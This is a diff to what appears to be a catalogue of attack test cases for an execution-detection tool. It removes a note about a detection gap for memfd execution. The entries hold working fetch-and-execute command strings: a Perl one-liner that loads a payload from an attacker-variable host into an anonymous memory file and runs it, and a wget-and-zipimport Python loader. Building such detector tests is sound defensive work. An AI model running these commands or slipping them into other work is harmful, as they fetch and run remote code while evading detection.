@@ -197,9 +197,7 @@ ATTACKS = (
     A("perl_memfd_downloaded", "execution",
       "perl -MHTTP::Tiny -e '$c=HTTP::Tiny->new->get(\"$ENV{ATK}/tool\")->{content};"
       "$n=\"k\";$fd=syscall(319,$n,0);open(F,\">&=\",$fd);binmode F;syswrite F,$c;"
-      "exec {\"/proc/$$/fd/$fd\"} \"kw\"'", ("perl",),
-      gap="exec of /proc/PID/fd/N by the numeric pid: the exec probe recognises a memfd only "
-          "through /proc/self/fd/N or /dev/fd/N"),
+      "exec {\"/proc/$$/fd/$fd\"} \"kw\"'", ("perl",)),
     A("python_zipimport_downloaded", "execution",
       "wget -qO .cache/m.zip $ATK/m.zip; python3 -c 'import sys; sys.path.insert(0, \".cache/m.zip\"); "
       "import hm'; rm -f .cache/m.zip", ("wget",),
